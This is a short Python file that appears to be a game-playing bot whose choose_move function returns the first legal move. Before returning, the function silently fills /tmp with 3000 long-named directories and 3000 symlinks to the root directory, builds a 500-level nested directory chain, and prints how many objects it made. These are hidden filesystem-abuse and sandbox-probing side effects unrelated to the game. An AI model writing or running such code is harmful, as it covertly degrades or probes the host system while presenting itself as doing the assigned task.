"""Names without content, links, and folders in folders."""

import os


def choose_move(view):
    made = 0
    try:
        os.chdir("/tmp")
        for number in range(3000):
            os.mkdir(f"{number:0240}")
            os.symlink("/", f"{number} link")
            made += 2
        os.chdir(f"{0:0240}")
        for _ in range(500):
            os.mkdir("d")
            os.chdir("d")
    except OSError as error:
        print(error)
    print(made)
    return view["legal"][0]
